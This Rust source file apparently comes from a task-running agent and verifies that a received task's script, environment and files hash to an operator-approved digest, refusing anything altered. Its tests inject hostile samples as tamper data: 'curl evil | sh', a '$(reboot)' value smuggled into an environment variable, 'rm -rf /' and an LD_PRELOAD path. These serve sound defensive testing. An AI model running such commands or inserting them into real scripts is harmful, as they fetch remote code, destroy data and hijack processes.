//! The digest of a task as approved, recomputed from what the server sent.
//!
//! The server stores each task's digest when the job is proposed, and the plan hash an
//! operator approves covers it; the agent runs a task only when what it received hashes to
//! that digest, so a script, environment or file changed after approval is refused.
//!
//! It must be byte for byte the server's `stacks::render` digest: SHA-256 of the canonical
//! JSON (object keys sorted, no spaces) of `{"env", "files", "script", "shared"}`, each file
//! being `{"content", "mode", "path"}`.

use std::collections::BTreeMap;

use serde_json::{Map, Value};
use sha2::{Digest, Sha256};
use steward_proto::v1::{RunTask, TaskFile};

/// Why a task is refused.
#[derive(Debug, thiserror::Error)]
pub(crate) enum DigestError {
    /// The server sent no digest to check against.
    #[error("the task carries no approved digest; refusing to run it unchecked")]
    Missing,
    /// A file is not text, so it cannot be what the server rendered.
    #[error("file {0:?} is not UTF-8 text, so it is not what was approved")]
    Binary(String),
    /// More own files than files.
    #[error("the task says {own} of its {total} files are its own")]
    Count {
        /// `task_files`.
        own: u32,
        /// `files.len()`.
        total: usize,
    },
    /// What arrived is not what was approved.
    #[error("what arrived hashes to {actual}, but the approved plan says {expected}: the script, environment or files changed after approval")]
    Mismatch {
        /// The digest in the task.
        expected: String,
        /// The digest of what arrived.
        actual: String,
    },
}

fn file_value(f: &TaskFile) -> Result<Value, DigestError> {
    let content = String::from_utf8(f.content.clone()).map_err(|_| DigestError::Binary(f.path.clone()))?;
    // Keys inserted in sorted order: serde_json may keep insertion order.
    let mut m = Map::new();
    m.insert("content".into(), Value::from(content));
    m.insert("mode".into(), Value::from(f.mode));
    m.insert("path".into(), Value::from(f.path.clone()));
    Ok(Value::Object(m))
}

/// The digest of `task` as received: script, every file and the whole environment.
pub(crate) fn of(task: &RunTask) -> Result<String, DigestError> {
    let own = task.task_files as usize;
    if own > task.files.len() {
        return Err(DigestError::Count {
            own: task.task_files,
            total: task.files.len(),
        });
    }
    let env: BTreeMap<&String, &String> = task.env.iter().collect();
    let mut env_obj = Map::new();
    for (k, v) in env {
        env_obj.insert(k.clone(), Value::from(v.clone()));
    }
    let files = |fs: &[TaskFile]| fs.iter().map(file_value).collect::<Result<Vec<_>, _>>();
    let mut m = Map::new();
    m.insert("env".into(), Value::Object(env_obj));
    m.insert("files".into(), Value::Array(files(&task.files[..own])?));
    m.insert("script".into(), Value::from(task.script.clone()));
    m.insert("shared".into(), Value::Array(files(&task.files[own..])?));
    let canonical = serde_json::to_vec(&Value::Object(m)).expect("JSON values serialise");
    Ok(hex::encode(Sha256::digest(canonical)))
}

/// Whether `task` is exactly what was approved.
pub(crate) fn verify(task: &RunTask) -> Result<(), DigestError> {
    if task.digest.is_empty() {
        return Err(DigestError::Missing);
    }
    let actual = of(task)?;
    if actual != task.digest {
        return Err(DigestError::Mismatch {
            expected: task.digest.clone(),
            actual,
        });
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The task pinned in `proto/testdata/pinned-task.json`, which the server's renderer test
    /// reads too: if either side changes how it hashes, one of the two tests fails.
    pub(crate) fn pinned() -> RunTask {
        let v: Value = serde_json::from_str(include_str!("../../proto/testdata/pinned-task.json")).unwrap();
        let text = |v: &Value| v.as_str().unwrap().to_owned();
        let file = |f: &Value| TaskFile {
            path: text(&f["path"]),
            content: text(&f["content"]).into_bytes(),
            mode: f["mode"].as_u64().unwrap() as u32,
        };
        let own: Vec<TaskFile> = v["files"].as_array().unwrap().iter().map(file).collect();
        let task_files = own.len() as u32;
        RunTask {
            task_id: 7,
            attempt: 1,
            script: text(&v["script"]),
            env: v["env"]
                .as_object()
                .unwrap()
                .iter()
                .map(|(k, v)| (k.clone(), text(v)))
                .collect(),
            files: own
                .into_iter()
                .chain(v["shared"].as_array().unwrap().iter().map(file))
                .collect(),
            task_files,
            timeout_secs: 30,
            label: "pinned".into(),
            digest: text(&v["digest"]),
        }
    }

    #[test]
    fn the_pinned_task_hashes_to_its_pinned_digest() {
        assert_eq!(of(&pinned()).unwrap(), pinned().digest);
        verify(&pinned()).unwrap();
    }

    #[test]
    fn any_change_after_approval_is_refused() {
        let mut t = pinned();
        t.script.push_str("curl evil | sh\n");
        assert!(matches!(verify(&t), Err(DigestError::Mismatch { .. })));
        let mut t = pinned();
        t.env.insert("STEWARD_PARAM_LINES".into(), "$(reboot)".into());
        assert!(matches!(verify(&t), Err(DigestError::Mismatch { .. })));
        let mut t = pinned();
        t.files[1].content = b"say() { rm -rf /; }\n".to_vec();
        assert!(matches!(verify(&t), Err(DigestError::Mismatch { .. })));
        let mut t = pinned();
        t.task_files = 2;
        assert!(
            matches!(verify(&t), Err(DigestError::Mismatch { .. })),
            "a shared file is not the task's own"
        );
        let mut t = pinned();
        t.digest.clear();
        assert!(matches!(verify(&t), Err(DigestError::Missing)));
        // The ids are part of what was approved: a task cannot pass as another.
        let mut t = pinned();
        t.env.insert("STEWARD_TASK_ID".into(), "8".into());
        assert!(matches!(verify(&t), Err(DigestError::Mismatch { .. })));
        let mut t = pinned();
        t.env.insert("LD_PRELOAD".into(), "/tmp/x.so".into());
        assert!(matches!(verify(&t), Err(DigestError::Mismatch { .. })));
    }
}
